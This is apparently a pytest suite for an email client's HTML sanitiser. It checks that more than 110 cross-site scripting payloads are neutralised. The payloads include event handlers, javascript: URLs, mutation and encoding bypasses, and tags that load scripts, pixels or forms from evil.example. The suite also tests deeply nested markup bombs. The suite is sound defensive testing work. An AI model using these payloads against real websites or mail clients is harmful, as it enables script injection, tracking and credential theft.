# ruff: noqa: E501 - samples of mail stay on one line
"""Foreign HTML: nothing runs, nothing loads, words stay."""

import re
import time

import pytest

from inbox.mail.sanitise import html_to_text, sanitise_html

_JS = "alert(1)"
_WRAPPERS = [
    "<script>{js}</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT>{js}</SCRIPT >", "<scr<script>ipt>{js}</script>",
    "<img src=x onerror={js}>", "<img src=x onerror='{js}'>", "<img/src=x/onerror={js}>", "<img src='x'onerror={js}>",
    "<svg onload={js}>", "<svg><script>{js}</script></svg>", "<svg><animate onbegin={js}></svg>", "<svg/onload={js}//",
    "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>", "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={js}>", "<math href='javascript:{js}'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={js}>'>",
    "<body onload={js}>", "<body onpageshow={js}>", "<html onmouseover={js}>", "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>", "<iframe onload={js}></iframe>", "<embed src=javascript:{js}>",
    "<object data=javascript:{js}></object>", "<object data='data:text/html,<script>{js}</script>'></object>",
    "<a href=javascript:{js}>x</a>", "<a href='JaVaScRiPt:{js}'>x</a>", "<a href=' javascript:{js}'>x</a>",
    "<a href='java\tscript:{js}'>x</a>", "<a href='java\nscript:{js}'>x</a>", "<a href='&#106;avascript:{js}'>x</a>",
    "<a href='&#x6a;avascript:{js}'>x</a>", "<a href='javascript&colon;{js}'>x</a>", "<a href='\x01javascript:{js}'>x</a>",
    "<a href='vbscript:{js}'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='//evil.example'>x</a>",
    "<a href='/admin/delete'>x</a>", "<a href='#' onclick={js}>x</a>", "<a hx-get='/x' hx-trigger=load>x</a>",
    "<div hx-on:load={js}>x</div>", "<div data-hx-get=/x>x</div>", "<p class='js-run' id=main data-action=run>x</p>",
    "<form action=javascript:{js}><button>x</button></form>", "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:{js}>x</button>", "<input onfocus={js} autofocus>", "<select onfocus={js} autofocus></select>",
    "<textarea onfocus={js} autofocus></textarea>", "<keygen onfocus={js} autofocus>", "<details open ontoggle={js}>x</details>",
    "<marquee onstart={js}>x</marquee>", "<video onerror={js}><source></video>", "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>", "<video poster=javascript:{js}></video>", "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>", "<style>@import '//evil.example/x.css';</style>", "<style>*{{background:url(//evil.example)}}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>", "<div style='width:expression({js})'>x</div>", "<div style='position:fixed;inset:0'>x</div>",
    "<p style='-moz-binding:url(//evil.example)'>x</p>", "<table background=//evil.example/x.png><tr><td>x</table>",
    "<td background=//evil.example/x.png>x</td>", "<img src=//evil.example/pixel.gif>", "<img src=https://evil.example/pixel.gif>",
    "<img srcset='//evil.example/a 1x'>", "<img src=cid:x srcset='//evil.example/a 1x'>", "<img lowsrc=//evil.example/a>",
    "<img dynsrc=//evil.example/a>", "<picture><source srcset=//evil.example/a><img src=//evil.example/b></picture>",
    "<image src=//evil.example/a>", "<input type=image src=//evil.example/a>", "<video src=//evil.example/a></video>",
    "<svg><image href=//evil.example/a /></svg>", "<svg><use href='//evil.example/a#x'/></svg>", "<object data=//evil.example/a></object>",
    "<bgsound src=//evil.example/a>", "<frameset onload={js}><frame src=javascript:{js}></frameset>", "<layer src=//evil.example>x</layer>",
    "<applet code=//evil.example/a></applet>", "<isindex type=image src=1 onerror={js}>", "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<noembed><img src=x onerror={js}></noembed>", "<xmp><img src=x onerror={js}></xmp>", "<plaintext><img src=x onerror={js}>",
    "<template><img src=x onerror={js}></template>", "<title><img src=x onerror={js}></title>", "<textarea><img src=x onerror={js}></textarea>",
    "<!--<img src='--><img src=x onerror={js}>'>", "<!--[if gte IE 4]><script>{js}</script><![endif]-->", "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><script>{js}</script>", "<x onclick={js}>x</x>", "<custom-tag onclick={js}>x</custom-tag>",
    "<p title='\"><img src=x onerror={js}>'>x</p>", "<p title=\"'><script>{js}</script>\">x</p>", "<img alt='`><script>{js}</script>' src=x>",
    "<img src='cid:a\" onerror=\"{js}'>", "<img alt='\" onerror=\"{js}' src=cid:a>", "<a href='mailto:a@b.example\" onclick=\"{js}'>x</a>",
    "<a href='https://ok.example\" onclick=\"{js}'>x</a>", "%3Cscript%3E{js}%3C/script%3E", "&lt;script&gt;{js}&lt;/script&gt;",
    "\x00<script\x00>{js}</script>", "<img src=x one\x00rror={js}>", "<\x00script>{js}</script>", "\ufeff<script>{js}</script>",
    "<b/onclick={js}>x</b>", "<font color=red onmouseover={js}>x</font>", "<area href=javascript:{js}>", "<map><area href=javascript:{js}></map>",
]  # fmt: skip
PAYLOADS = [wrapper.format(js=_JS) for wrapper in _WRAPPERS]
_SAFE_TAG = re.compile(
    r"</?(?:a|abbr|address|b|blockquote|br|caption|center|cite|code|col|colgroup|dd|div|dl|dt|em|font|h[1-6]|hr|i|img|li|ol|p|pre|"
    r"s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)"
    r'(?: (?:title|alt|align|valign|dir|lang|width|height|colspan|rowspan|rel|target|start|href|src)="[^"]*")*>'
)
_ADDRESSES = re.compile(r'(?:href|src)="([^"]*)"')


def test_there_are_more_than_a_hundred_attacks():
    assert len(PAYLOADS) >= 110


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_attack_survives(payload):
    html = sanitise_html(f"<p>before</p>{payload}<p>after</p>").html
    assert _SAFE_TAG.sub("", html).count("<") == 0
    for address in _ADDRESSES.findall(html):
        assert address.startswith(("https://ok.example", "mailto:", "cid:"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_attack_survives_a_second_reading(payload):
    once = sanitise_html(payload).html
    assert sorted(sanitise_html(once).html) == sorted(once)  # attributes may change places


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_of_an_attack_is_only_text(payload):
    assert isinstance(html_to_text(payload), str)


def test_remote_images_become_placeholders_and_are_counted():
    found = sanitise_html('<p>Logo <img src="https://t.example/p.gif" alt="Clinic"> <img src="http://x/y"></p>')
    assert found.html == "<p>Logo <span>[Clinic]</span> <span>[…]</span></p>"
    assert found.remote_images == 2


def test_ordinary_markup_stays():
    html = '<div>Dear <b>Ana</b>,<br><a href="https://aurora.example/x?a=1">link</a><table><tr><td colspan="2">1</td></tr></table></div>'
    assert sanitise_html(html).html == (
        '<div>Dear <b>Ana</b>,<br><a href="https://aurora.example/x?a=1" target="_blank" rel="noopener noreferrer nofollow">'
        'link</a><table><tbody><tr><td colspan="2">1</td></tr></tbody></table></div>'
    )


@pytest.mark.parametrize(
    "bomb", ["<div>" * 200_000, "<b a=1><p>" * 100_000, "<table><td>" * 60_000, "<script>" * 100_000]
)
def test_deep_markup_costs_little(bomb):
    started = time.process_time()
    sanitise_html(bomb + "words")
    html_to_text(bomb + "words")
    assert time.process_time() - started < 3


def test_words_of_deep_markup_are_kept():
    assert html_to_text("<div>" * 5000 + "words") == "words"
    assert sanitise_html("<div>" * 5000 + "a &lt;b&gt;").html.strip() == "a &lt;b&gt;"
